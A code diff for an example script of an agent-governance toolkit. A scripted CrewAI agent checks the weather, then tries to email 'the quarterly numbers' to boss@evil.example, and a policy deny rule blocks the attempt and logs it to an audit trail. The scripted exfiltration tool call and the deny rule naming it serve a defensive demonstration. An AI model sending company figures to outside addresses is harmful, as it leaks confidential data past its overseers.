@@ -6,14 +6,14 @@
 The crew's one agent asks for the weather (allowed) and then tries to mail the figures to an outside
 address (denied by the policy). The model is a scripted ``crewai.BaseLLM`` in CrewAI's ReAct text format;
 it prints what it was told after each tool call, so you can see agt's denial reach the model.
+
+The policy (examples/offline_policy.yaml), the plain tools and the CFO's keys come from examples/_offline.py.
 """
 
 from __future__ import annotations
 
 import json
 import os
-import tempfile
-from pathlib import Path
 
 # No telemetry, no tracing, no version check (set before crewai is imported).
 os.environ.update({"CREWAI_DISABLE_TELEMETRY": "true", "OTEL_SDK_DISABLED": "true",
@@ -22,38 +22,9 @@ os.environ.update({"CREWAI_DISABLE_TELEMETRY": "true", "OTEL_SDK_DISABLED": "tru
 from crewai import Agent, BaseLLM, Crew, Task  # noqa: E402
 from crewai.tools import tool  # noqa: E402
 
+from _offline import RAN, get_weather, offline_governor, send_email  # noqa: E402
 from agt.adapters.crewai import install  # noqa: E402
-from agt.audit import AuditLog  # noqa: E402
 from agt.audit.log import select  # noqa: E402
-from agt.runtime.governor import Governor  # noqa: E402
-
-POLICY = """\
-apiVersion: governance.toolkit/v1
-name: crewai-example
-default_action: allow
-rules:
-  - name: block-external-email
-    condition: "tool_name == 'send_email' and action.params.to endswith '@evil.example'"
-    action: deny
-    priority: 100
-    message: Mail to outside domains is blocked.
-"""
-
-BODIES_RAN: list[str] = []
-
-
-@tool("get_weather")
-def get_weather(city: str) -> str:
-    """Get the weather for a city."""
-    BODIES_RAN.append("get_weather")
-    return f"sunny in {city}"
-
-
-@tool("send_email")
-def send_email(to: str, body: str) -> str:
-    """Send an email."""
-    BODIES_RAN.append("send_email")
-    return f"sent to {to}"
 
 
 class ScriptedLLM(BaseLLM):
@@ -82,37 +53,33 @@ def act(name: str, **args: object) -> str:
 
 
 def main() -> None:
-    with tempfile.TemporaryDirectory() as tmp:
-        os.environ.setdefault("CREWAI_STORAGE_DIR", str(Path(tmp) / "crewai"))
-        policy = Path(tmp) / "policy.yaml"
-        policy.write_text(POLICY)
-        audit_dir = Path(tmp) / "audit"
-        governor = Governor("yaml", str(policy), audit=AuditLog(audit_dir, key_path=Path(tmp) / "audit.key"))
-
+    with offline_governor("crewai") as env:  # examples/offline_policy.yaml and a signed audit log in a temp dir
+        os.environ.setdefault("CREWAI_STORAGE_DIR", str(env.work / "crewai"))
         llm = ScriptedLLM(model="scripted", replies=[
             act("get_weather", city="Paris"),
             act("send_email", to="boss@evil.example", body="the quarterly numbers"),
             "Thought: the mail was refused by policy.\nFinal Answer: It is sunny in Paris; I could not send the mail.",
         ], observations=[])
         agent = Agent(role="Assistant", goal="Help the user", backstory="A careful assistant.", llm=llm,
-                      tools=[get_weather, send_email], allow_delegation=False, verbose=False)
+                      tools=[tool("get_weather")(get_weather), tool("send_email")(send_email)],
+                      allow_delegation=False, verbose=False)
         task = Task(description="Tell me the weather in Paris and mail the numbers to boss@evil.example.",
                     expected_output="One sentence.", agent=agent)
         crew = Crew(agents=[agent], tasks=[task], verbose=False)
 
-        with install(governor):  # the one line that governs every CrewAI tool call in this process
+        with install(env.governor):  # the one line that governs every CrewAI tool call in this process
             result = crew.kickoff()
 
         weather, mail = llm.observations[0], llm.observations[1]
         print(f"get_weather ran: {weather}")
-        governor.audit.flush()
-        rules = sorted({r["id"] for rec in select(audit_dir, kind="decision") for r in rec["result"].get("reasons", [])})
+        env.governor.audit.flush()
+        rules = sorted({r["id"] for rec in select(env.audit_dir, kind="decision")
+                        for r in rec["result"].get("reasons", [])})
         denied_by = "block-external-email" if "block-external-email" in mail else "?"
         print(f"send_email denied ({denied_by}); the model read: {mail}")
-        print(f"send_email body ran: {'yes' if 'send_email' in BODIES_RAN else 'no'}")
+        print(f"send_email body ran: {'yes' if 'send_email' in RAN else 'no'}")
         print(f"audit rule ids: {', '.join(rules)}")
         print(f"final answer: {result.raw}")
-        governor.close()
 
 
 if __name__ == "__main__":
